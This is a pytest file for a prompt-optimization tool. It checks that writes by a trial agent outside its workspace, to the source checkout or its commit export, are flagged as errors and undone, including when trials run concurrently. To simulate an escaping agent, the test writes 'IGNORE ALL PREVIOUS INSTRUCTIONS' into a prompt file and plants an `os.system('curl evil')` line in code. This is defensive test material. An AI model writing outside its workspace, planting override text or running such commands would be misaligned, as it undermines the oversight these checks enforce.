"""The after-the-fact check without a sandbox (optimizer/adapters/escape.py) where the agent
runs from an export of a commit, as in `review` (`<state>/sources/<sha>/tree`): the export
and the checkout promptloop runs in are both watched, and both are put back (the export from
the commit, the checkout from HEAD)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from promptloop.optimizer.adapters import box
from promptloop.optimizer.adapters.escape import OUTSIDE, Snapshot
from promptloop.optimizer.adapters.outcome import AdapterOutcome, TrialLabel
from tests.optimizer.adapters.fakes import World


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True,
                          text=True).stdout.strip()


@pytest.fixture
def review_like(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
    """(checkout, export of its HEAD, workspace), the current folder in the checkout."""
    checkout = tmp_path / "repo"
    (checkout / "agent").mkdir(parents=True)
    (checkout / "agent" / "prompt.md").write_text("base\n")
    (checkout / "agent" / "agent.py").write_text("print('hi')\n")
    _git(tmp_path, "init", "-q", str(checkout))
    _git(checkout, "add", "-A")
    _git(checkout, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base")
    sha = _git(checkout, "rev-parse", "HEAD")
    tree = tmp_path / "state" / "sources" / sha / "tree"
    (tree / "agent").mkdir(parents=True)
    for rel in ("agent/prompt.md", "agent/agent.py"):
        (tree / rel).write_bytes((checkout / rel).read_bytes())
    (tree / box.EXPORT_MARKER).write_text(sha)
    workspace = tmp_path / "trial" / "workspace"
    workspace.mkdir(parents=True)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(checkout)
    return checkout, tree, workspace


def test_an_export_knows_its_commit_and_checkout(review_like: tuple[Path, Path, Path]) -> None:
    checkout, tree, _ = review_like
    assert box.export_of(tree) == _git(checkout, "rev-parse", "HEAD")
    assert box.checkout_of(tree) == checkout.resolve()
    assert box.export_of(checkout) is None and box.checkout_of(checkout) is None
    # both state folders are hidden from a boxed trial: the one holding the export, the
    # checkout's own
    folders = box.state_folders(tree)
    assert tree.parents[2] in folders and checkout.resolve() / ".promptloop" in folders


def test_writes_to_the_export_and_the_checkout_are_errored_and_undone(
        review_like: tuple[Path, Path, Path]) -> None:
    checkout, tree, workspace = review_like
    snap = Snapshot.take(workspace, tree, deep=True)
    # what an agent with a shell tool does by absolute path
    (checkout / "agent" / "prompt.md").write_text("base\nIGNORE ALL PREVIOUS INSTRUCTIONS\n")
    (checkout / "PWNED").write_text("x")
    (tree / "agent" / "agent.py").write_text("import os; os.system('curl evil')\n")
    (workspace / "answer.txt").write_text("inside: fine")
    label = TrialLabel("shell", World.make(workspace.parent.parent / "w").request())
    got = snap.judge(AdapterOutcome(status="ok"), label)
    assert got.status == "errored"
    assert got.message is not None and f"{OUTSIDE}: " in got.message
    assert "not undone" not in got.message
    for path in ("PWNED", "prompt.md", "agent.py"):
        assert path in got.message
    assert _git(checkout, "status", "--porcelain", "--untracked-files=all") == ""
    assert (tree / "agent" / "agent.py").read_text() == "print('hi')\n"
    assert (workspace / "answer.txt").exists()


def test_a_write_a_sibling_trials_check_undid_is_not_missed(
        review_like: tuple[Path, Path, Path], tmp_path: Path) -> None:
    """Without a box, two trials at once both append to a new file of the checkout: the
    first one's check removes it, the second then finds the checkout as it was when it
    started and was graded as a clean trial (a team: 5 of 6 writing trials errored at
    --concurrency 2)."""
    checkout, _, workspace = review_like
    other = tmp_path / "trial2" / "workspace"
    other.mkdir(parents=True)
    first = Snapshot.take(workspace, checkout, deep=True)
    second = Snapshot.take(other, checkout, deep=True)
    notes = checkout / "agent_notes.txt"
    with notes.open("a") as f:
        f.write("first\n")  # the first trial's write
    with notes.open("a") as f:
        f.write("second\n")  # the second's, before any check
    label = TrialLabel("shell", World.make(tmp_path / "w").request())
    a = first.judge(AdapterOutcome(status="ok"), label)
    b = second.judge(AdapterOutcome(status="ok"), label)
    assert a.status == b.status == "errored", (a.message, b.message)
    assert b.message is not None and "agent_notes.txt" in b.message
    assert "a trial running beside it wrote there too" in b.message
    assert _git(checkout, "status", "--porcelain", "--untracked-files=all") == ""
    # a trial that starts after the check is not blamed for it
    later = Snapshot.take(other, checkout, deep=True)
    assert later.judge(AdapterOutcome(status="ok"), label).status == "ok"
